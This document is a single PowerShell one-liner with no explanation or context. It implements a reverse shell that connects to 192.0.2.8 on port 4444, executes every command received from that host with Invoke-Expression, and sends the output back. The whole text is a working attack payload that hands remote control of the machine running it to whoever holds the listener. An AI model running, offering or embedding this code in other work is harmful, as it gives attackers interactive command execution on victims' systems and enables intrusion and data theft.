$client = New-Object System.Net.Sockets.TCPClient('192.0.2.8',4444);$stream = $client.GetStream();[byte[]]$b = 0..65535|%{0};
while(($i = $stream.Read($b, 0, $b.Length)) -ne 0){$d = ([text.encoding]::ASCII).GetString($b,0,$i);$o = (iex $d 2>&1 | Out-String);$s = ([text.encoding]::ASCII).GetBytes($o);$stream.Write($s,0,$s.Length)}
